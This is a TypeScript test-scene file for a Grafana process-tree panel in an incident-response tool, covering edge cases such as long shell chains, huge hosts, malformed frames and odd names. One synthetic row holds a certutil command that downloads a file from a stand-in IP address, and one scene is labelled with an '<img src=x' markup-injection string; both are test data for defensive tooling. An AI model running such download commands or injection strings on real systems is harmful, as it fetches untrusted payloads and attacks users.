import { type DataFrameDTO } from '@grafana/data';
import { processTreeFrame } from '../../src/frames/processTree';
import { FOREIGN, LONGEST_COMMAND_LINE, MARKUP } from './awkwardTexts';
import { busyHost } from './busyHost';
import { ofNewerVersion, repeatedRows, verdictsOn, without, withValues } from './changedFrames';
import { type Scene, scenesOf } from './scene';
import { logOf, STORY_START, storyLog } from './storyLog';
import { treeFrame } from './treeFrames';

const MANY = 100_000;
/** As often as two shells start each other in the longest chain of real evidence. */
const REPEATS = 839;
/** As many of the same program as one process has started in real evidence. */
const SIBLINGS = 5_703;
const DAY = 86_400_000;

/** Narrow ones first, so that as many as possible are on the screen. */
const EVERY_COLUMN = [
  ...['pid', 'clusterSize', 'prevalence', 'certainty', 'lifetime', 'sinceParent', 'start', 'user', 'integrity'],
  ...['subjectSession', 'targetSession', 'commandLine'],
];

const scene = scenesOf('tree', 'casefile-processtree-panel');
const story = () => treeFrame(storyLog());

/** The process tree panel. */
export const treeScenes: readonly Scene[] = [
  scene('empty', 'No process creations', () => [
    processTreeFrame.write([], { summary: 'No process creations for FIN-WS-07 in the chosen time. Widen the window.' }),
  ]),
  scene('one-row', 'cmd.exe', () => [treeFrame(logOf([{ pid: 4 }]))]),
  scene('story', 'certutil.exe', () => [story()]),
  scene('story-diagram', 'powershell.exe, PID 5388', () => [story()], { options: { view: 'diagram' } }),
  scene('story-narrow', 'certutil.exe', () => [story()], { size: { width: 420, height: 360 } }),
  scene('all-columns', '1,204', () => [toldStory()], { options: { columns: EVERY_COLUMN } }),
  scene('story-light', 'certutil.exe', () => [story()], { theme: 'light' }),
  scene('joined', 'certutil.exe', () => [story(), verdictsOn(story(), 'key')], {
    transformations: [
      { id: 'joinByField', options: { byField: 'key', mode: 'outer' } },
      {
        id: 'organize',
        options: {
          indexByName: { 'Command line': 0, verdict: 1, PID: 2 },
          renameByName: { PID: 'Process number' },
          excludeByName: { Integrity: true, Elevation: true },
        },
      },
    ],
  }),
  scene('wrong-frame', 'The column "commandLine" is missing.', () => [
    withValues(without(story(), 'commandLine'), 'pid', (pid, row) => (row === 1 ? 'many' : pid)),
  ]),
  scene('newer-version', 'written by a newer Casefile', () => [ofNewerVersion(story())]),
  scene('not-a-number', 'The column "start" has no time in row 2.', () => [
    withValues(story(), 'start', (start, row) => (row === 1 ? NaN : start)),
  ]),
  scene('long-chain', 'powershell.exe', () => [treeFrame(chain())]),
  scene('long-chain-folded', '839', () => [treeFrame(chain())], { options: { folding: 'repeats' } }),
  scene('wide-folded', '5,703', () => [treeFrame(wide())], { options: { folding: 'repeats' } }),
  scene('100000-rows', '105,119 processes', () => [treeFrame(busyHost(MANY))]),
  scene('foreign-names', 'חשבונית', () => [
    treeFrame(
      logOf(
        Object.values(FOREIGN).map((text, place) => ({
          pid: 100 + place,
          parentPid: place === 0 ? null : 99 + place,
          path: text,
          commandLine: `"${text}" --open ${FOREIGN.arabic}`,
          user: FOREIGN.arabic,
          start: STORY_START + place,
        }))
      )
    ),
  ]),
  scene('long-command-line', 'Write-Output', () => [
    treeFrame(logOf([{ pid: 8, path: 'C:\\Windows\\powershell.exe', commandLine: LONGEST_COMMAND_LINE }])),
  ]),
  scene('markup', '<img src=x', () => [
    treeFrame(logOf([{ pid: 8, host: MARKUP, path: MARKUP, commandLine: MARKUP, user: MARKUP, parentPath: MARKUP }])),
  ]),
  scene('odd-times', '1970', () => [
    treeFrame(logOf([0, STORY_START, Date.UTC(2262, 3, 11), null].map((start, place) => ({ pid: 10 + place, start })))),
  ]),
  scene('two-hosts', 'FIN-WS-08', () => [
    treeFrame(logOf(['FIN-WS-07', 'FIN-WS-08'].flatMap((host) => [pair(host, 20), pair(host, 21)]))),
  ]),
  scene('uncertain-parents', 'services.exe', () => [
    treeFrame(
      logOf([
        { pid: 30, parentPid: 700, parentPath: 'C:\\Windows\\System32\\services.exe' },
        { pid: 31, parentPid: 701, start: STORY_START + DAY },
        { pid: 32, parentPid: null, start: STORY_START + 2 },
        { pid: 33, parentPid: 32, start: STORY_START + 3 },
      ])
    ),
  ]),
  scene('missing-parents', 'name a parent that is not there', () => [
    withValues(story(), 'parentKey', (key, row) => (row % 3 === 0 ? key : `nobody ${row}`)),
  ]),
  scene('duplicate-keys', 'repeat the key of another', () => [repeatedRows(story(), 2)]),
  scene('parents-in-a-circle', 'Parents in 1 circle', () => {
    const frame = story();
    const keys: readonly unknown[] = frame.fields.find(({ name }) => name === 'key')?.values ?? [];
    return [withValues(frame, 'parentKey', (_, row) => keys[(row + 1) % keys.length])];
  }),
];

/** The story with what only some logs and queries tell: ends, tokens, and sizes of clusters. */
const toldStory = (): DataFrameDTO => {
  const ended = withValues(story(), 'end', (_, row) => STORY_START + 60_000 * (row + 1));
  const token = withValues(ended, 'integrity', (_, row) => ['high', 'medium', null][row % 3]);
  const { fields, ...frame } = withValues(token, 'elevation', (_, row) => ['full', 'limited', null][row % 3]);
  const sizes = fields
    .filter(({ name }) => name === 'pid')
    .map((field) => ({
      ...field,
      name: 'ClusterSize',
      values: field.values?.map((_, row) => (row === 0 ? 1_204 : 1)),
    }));
  return { ...frame, fields: [...fields, ...sizes] };
};

/** Two shells that start each other over and over. */
const chain = () =>
  logOf(
    Array.from({ length: 2 * REPEATS }, (_, place) => {
      const [image, parent] = place % 2 === 0 ? ['cmd.exe', 'powershell.exe'] : ['powershell.exe', 'cmd.exe'];
      return {
        pid: 1_000 + 4 * place,
        parentPid: place === 0 ? null : 996 + 4 * place,
        path: `C:\\Windows\\System32\\${image}`,
        commandLine: `${image} /c next.cmd`,
        parentPath: place === 0 ? '' : `C:\\Windows\\System32\\${parent}`,
        start: STORY_START + place * 100,
      };
    })
  );

/** One shell that starts the same program over and over, and another one in between. */
const wide = () =>
  logOf([
    { pid: 4 },
    ...Array.from({ length: SIBLINGS + 1 }, (_, place) => ({
      pid: 8 + 4 * place,
      parentPid: 4,
      path: `C:\\Windows\\System32\\${place === 4_000 ? 'certutil.exe' : 'conhost.exe'}`,
      commandLine: place === 4_000 ? 'certutil -urlcache -f http://198.51.100.23/t.bin' : 'conhost.exe 0xffffffff',
      parentPath: 'C:\\Windows\\System32\\cmd.exe',
      start: STORY_START + 1 + place * 100,
    })),
  ]);

/** The same pids on each host, the second below the first. */
const pair = (host: string, pid: number) => ({
  host,
  pid,
  parentPid: pid - 1,
  parentPath: 'C:\\Windows\\System32\\cmd.exe',
  start: STORY_START + pid,
});
